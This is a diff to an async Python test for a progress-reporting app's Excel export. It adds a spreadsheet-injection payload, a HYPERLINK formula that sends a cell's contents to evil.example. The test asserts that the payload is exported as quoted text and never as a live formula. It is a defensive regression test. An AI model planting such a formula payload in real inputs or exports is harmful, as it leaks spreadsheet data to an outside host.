@@ -30,6 +30,9 @@ def _fixture() -> dict[str, dict]:
     return t
 
 
+LEAK = '=HYPERLINK("http://evil.example/leak?d="&B2,"详情")'
+
+
 async def test_period_report_counts_match_the_fixture_as_of_any_date(api, settings):
     settings.today = DAY0
     t = _fixture()
@@ -47,7 +50,7 @@ async def test_period_report_counts_match_the_fixture_as_of_any_date(api, settin
     await act(11, "S2b", B, "lag-explanations", {"reason_kind": "objective", "reason_category": "weather",
                                                   "explanation": "连续暴雨停工", "recovery_plan": "增加班组"})
     await act(15, "S2a", B, "progress", {"actual_value": 1})                         # late
-    await act(20, "S2c", C, "lag-explanations", {"reason_kind": "subjective", "explanation": "前期准备不足"})
+    await act(20, "S2c", C, "lag-explanations", {"reason_kind": "subjective", "explanation": LEAK})
     # K3 lags with no explanation; K4 is cancelled and must not count.
     await _cancel(settings, t["gone"])
     settings.today = DAY0 + timedelta(days=30)
@@ -99,6 +102,11 @@ async def test_period_report_counts_match_the_fixture_as_of_any_date(api, settin
     assert wb["汇总"]["A1"].value.startswith("3 项重点工作、6 个子项目")
     rows = list(wb["滞后清单"].iter_rows(min_row=2, values_only=True))
     assert sorted((r[0], r[9]) for r in rows) == [("K2-2", "客观"), ("K2-3", "主观"), ("K3", "未说明")]
+    # Issue 12 #8: a unit's text that starts like a formula is exported as text, never as a live formula.
+    cells = [c for row in wb["滞后清单"].iter_rows() for c in row]
+    assert [c for c in cells if c.data_type == "f"] == []
+    (leak,) = [c for c in cells if c.value == LEAK]
+    assert leak.data_type == "s" and leak.quotePrefix
 
 
 async def _cancel(settings, snap: dict) -> None:
